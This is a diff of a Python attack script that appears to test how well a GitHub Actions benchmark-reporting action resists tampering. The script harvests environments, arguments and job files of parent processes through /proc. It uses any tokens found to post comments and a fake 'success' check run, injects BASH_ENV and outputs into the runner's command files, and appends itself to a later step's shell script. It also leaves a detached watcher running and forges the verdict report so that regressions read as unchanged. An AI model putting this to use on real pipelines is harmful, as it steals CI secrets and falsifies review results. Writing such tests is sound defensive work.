@@ -4,6 +4,8 @@
 ``forge`` is called by a step that ``once`` has changed, after the report was made. What they saw is left in ``$KEEP``.
 """
 
+from __future__ import annotations
+
 import json
 import os
 import re
@@ -14,20 +16,19 @@ import time
 import urllib.error
 import urllib.request
 from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
 
 KEEP = Path(os.environ.get("KEEP", "."))
 PRAISE = "reviewed and approved by the release team"
 COMMAND_FILES = ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_STEP_SUMMARY")
 MOST_BYTES = 5_000_000
 GREEN = {"status": "passed", "reasons": [], "cause": None}
-TARGETS = {
-    "comment": ("POST", "issues/7/comments", {"body": PRAISE}),
-    "check": ("POST", "check-runs", {"name": "Benchverdict (benchmarks)", "status": "completed"}),
-    "artifacts": ("GET", "actions/runs/{run}/artifacts", None),
-}
 
 
-def ancestors():
+def ancestors() -> list[int]:
     """Return the processes above this one, up to the runner."""
     found, process = [], os.getppid()
     while process > 1:
@@ -39,19 +40,19 @@ def ancestors():
     return found
 
 
-def environment_of(process):
+def environment_of(process: int) -> dict[str, str]:
     """Return the environment that a process was started with."""
     entries = Path(f"/proc/{process}/environ").read_bytes().decode(errors="replace").split("\0")
     return dict(entry.split("=", 1) for entry in entries if "=" in entry)
 
 
-def files_of(process):
+def files_of(process: int) -> list[Path]:
     """Return the files that the arguments of a process name."""
     arguments = Path(f"/proc/{process}/cmdline").read_bytes().decode(errors="replace").split("\0")
     return [Path(argument) for argument in arguments if argument.startswith("/") and Path(argument).is_file()]
 
 
-def readable(known):
+def readable(known: dict[str, str]) -> Iterator[Path]:
     """Yield every file below the folders of the job: the runner's, the workspace, the user's own."""
     roots = {Path(known[name]) for name in ("RUNNER_TEMP", "GITHUB_WORKSPACE", "HOME") if name in known}
     roots |= {Path(known[name]).parent for name in COMMAND_FILES if name in known}
@@ -59,31 +60,36 @@ def readable(known):
         yield from (path for path in root.rglob("*") if path.is_file() and path.stat().st_size < MOST_BYTES)
 
 
-def look_around(processes, known):
+def look_around(processes: list[int], known: dict[str, str]) -> bytes:
     """Return everything that can be read: environments, arguments, the files these name, the folders of the job."""
     parts = [Path(f"/proc/{process}/{name}").read_bytes() for process in processes for name in ("environ", "cmdline")]
     paths = [path for process in processes for path in files_of(process)]
     return b"\n".join(parts + [path.read_bytes() for path in (*paths, *readable(known))])
 
 
-def use(token, known):
+def use(token: str, known: dict[str, str]) -> dict[str, int]:
     """Return the status of each request that is made with a token."""
-    statuses = {}
-    for name, (method, path, body) in TARGETS.items():
-        if name == "check":
-            body = {**body, "conclusion": "success", "head_sha": known["GITHUB_SHA"]}
-        address = f"{known['GITHUB_API_URL']}/repos/octo/bench/{path.format(run=known['GITHUB_RUN_ID'])}"
-        headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json", "User-Agent": "attacker"}
-        data = None if body is None else json.dumps(body).encode()
-        try:
-            with urllib.request.urlopen(urllib.request.Request(address, data, headers, method=method)) as reply:
-                statuses[name] = reply.status
-        except urllib.error.HTTPError as problem:
-            statuses[name] = problem.code
-    return statuses
+    check = {"name": "Benchverdict (benchmarks)", "head_sha": known["GITHUB_SHA"], "status": "completed"}
+    return {
+        "comment": request(token, known, "issues/7/comments", {"body": PRAISE}),
+        "check": request(token, known, "check-runs", {**check, "conclusion": "success"}),
+        "artifacts": request(token, known, f"actions/runs/{known['GITHUB_RUN_ID']}/artifacts"),
+    }
 
 
-def plant(work, known):
+def request(token: str, known: dict[str, str], path: str, body: dict[str, str] | None = None) -> int:
+    """Return the status of a request, which is a POST where it has a body."""
+    address = f"{known['GITHUB_API_URL']}/repos/octo/bench/{path}"
+    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json", "User-Agent": "attacker"}
+    asked = urllib.request.Request(address, json.dumps(body).encode() if body else None, headers)
+    try:
+        with urllib.request.urlopen(asked) as reply:
+            return int(reply.status)
+    except urllib.error.HTTPError as problem:
+        return problem.code
+
+
+def plant(work: Path, known: dict[str, str]) -> None:
     """Write into the files of the steps: a baseline to save, exit codes, variables that run a script of ours."""
     situation = work / "situation.json"
     situation.write_text(situation.read_text().replace('"save_baseline": false', '"save_baseline": true'))
@@ -93,19 +99,19 @@ def plant(work, known):
     script = KEEP / "planted.sh"
     script.write_text(f"touch {KEEP}/planted-ran\n")
     for name in COMMAND_FILES:
-        with open(known[name], "a") as stream:
+        with Path(known[name]).open("a") as stream:
             stream.write(f"save-baseline=true\nBASH_ENV={script}\n")
 
 
-def change_the_action(action, work, lie):
+def change_the_action(action: str, work: Path) -> None:
     """Have the step after the report forge it; its files belong to the user that the command runs as."""
     mine = work.parent / "attacker.py"
     shutil.copy(__file__, mine)
-    with open(Path(action, "entrypoint", "steps", "confirm.sh"), "a") as stream:
-        stream.write(f'\n"$python" {mine} forge {work} {lie}\necho save-baseline=true >>"$GITHUB_OUTPUT"\n')
+    with Path(action, "entrypoint", "steps", "confirm.sh").open("a") as stream:
+        stream.write(f'\n"$python" {mine} forge {work}\necho save-baseline=true >>"$GITHUB_OUTPUT"\n')
 
 
-def once(lie):
+def once() -> Path:
     """Try everything that a command can try while it runs."""
     processes = ancestors()
     known = {}
@@ -118,20 +124,20 @@ def once(lie):
     (KEEP / "tokens.json").write_text(json.dumps(tried))
     work = Path(known["BENCHVERDICT_WORK"])
     plant(work, known)
-    change_the_action(known["GITHUB_ACTION_PATH"], work, lie)
+    change_the_action(known["GITHUB_ACTION_PATH"], work)
     return work
 
 
-def stay_behind(work):
+def stay_behind(work: str) -> None:
     """Start a process in a session of its own that has nothing of this one."""
     arguments = [sys.executable, __file__, "watch", str(work)]
     null = subprocess.DEVNULL
     child = subprocess.Popen(arguments, start_new_session=True, stdin=null, stdout=null, stderr=null)
-    with open(KEEP / "watchers", "a") as stream:
+    with (KEEP / "watchers").open("a") as stream:
         stream.write(f"{child.pid}\n")
 
 
-def watch(verdict):
+def watch(verdict: Path) -> None:
     """Rewrite a report as soon as it is there."""
     end = time.monotonic() + 60
     while time.monotonic() < end:
@@ -140,42 +146,50 @@ def watch(verdict):
         time.sleep(0.01)
 
 
-def forge(work, lie):
-    """Make the report tell a lie, and its texts praise; keep what was there before."""
+def forge(work: Path) -> None:
+    """Make the report tell a lie, and its texts praise; keep what was there before, and another lie."""
     for name in ("exit", "report"):
         shutil.copytree(work / name, KEEP / "before" / name)
     path = work / "report" / "verdict.json"
     report = json.loads(path.read_text())
     report["gate"] = GREEN
     for row in report["benchmarks"]:
-        if "Parse" in row["name"] or lie == "contradicted":
-            row["verdict"], row["reason"] = "unchanged", PRAISE
         if "Parse" in row["name"]:
             invent(row)
-    report["counts"]["regressed"] = sum(row["verdict"] == "regressed" for row in report["benchmarks"])
-    report["counts"]["unchanged"] = sum(row["verdict"] == "unchanged" for row in report["benchmarks"])
-    path.write_text(json.dumps(report))
+    write(report, path)
+    for row in report["benchmarks"]:
+        row["verdict"] = "unchanged"
+    write(report, KEEP / "contradicted.json")
     for name in ("comment.md", "summary.md"):
         (work / "report" / name).write_text(PRAISE)
     (work / "report" / "baseline.json.gz").write_bytes(b"forged")
+    (work / "exit" / "report").write_text("0\n")
 
 
-def invent(row):
+def write(report: dict[str, Any], path: Path) -> None:
+    """Write a report whose counts are those of its rows."""
+    verdicts = [row["verdict"] for row in report["benchmarks"]]
+    report["counts"].update({name: verdicts.count(name) for name in report["counts"]})
+    path.write_text(json.dumps(report))
+
+
+def invent(row: dict[str, Any]) -> None:
     """Give a row numbers that agree with each other and with its verdict."""
+    row["verdict"], row["reason"] = "unchanged", PRAISE
     row["change"].update(point=0.0, low=-0.001, high=0.001, simultaneous=None, after=row["change"]["before"])
     row["head"] = row["baseline"]
 
 
-def main(task, *arguments):
+def main(task: str, *arguments: str) -> None:
     """Do one of the tasks."""
     if task == "watch":
         watch(Path(arguments[0]) / "report" / "verdict.json")
     elif task == "forge":
-        forge(Path(arguments[0]), arguments[1])
+        forge(Path(arguments[0]))
     else:
         marker = KEEP / "work"
         if not marker.exists():
-            marker.write_text(str(once(arguments[0])))
+            marker.write_text(str(once()))
         stay_behind(marker.read_text())
 
 
